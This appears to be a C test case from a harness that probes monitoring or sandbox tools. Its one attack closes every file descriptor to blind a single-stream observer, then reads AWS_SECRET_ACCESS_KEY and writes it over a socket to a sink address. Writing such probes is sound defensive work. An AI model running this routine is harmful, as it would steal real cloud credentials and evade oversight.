// SPDX-License-Identifier: MIT
/*
 * Closes all its descriptors, standard output too, and then sends the credential over a socket. An
 * observer that watches one stream sees nothing: breached.
 */
#include "attacks/attack.h"

#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	const char *secret = getenv("AWS_SECRET_ACCESS_KEY");
	int fd;

	attempting(b);
	close_range(0, ~0u, 0);
	fd = dial(SOCK_STREAM, b->sink);
	if (fd < 0 || !secret || write(fd, secret, strlen(secret)) < 0)
		return CLAIM_DENIED;
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a credential leaves by another door",
	.means = "close_range(2) of everything, then connect(2)",
	.oracle = "secret:environ",
	.remedy = "to watch every door",
	.run = run,
};
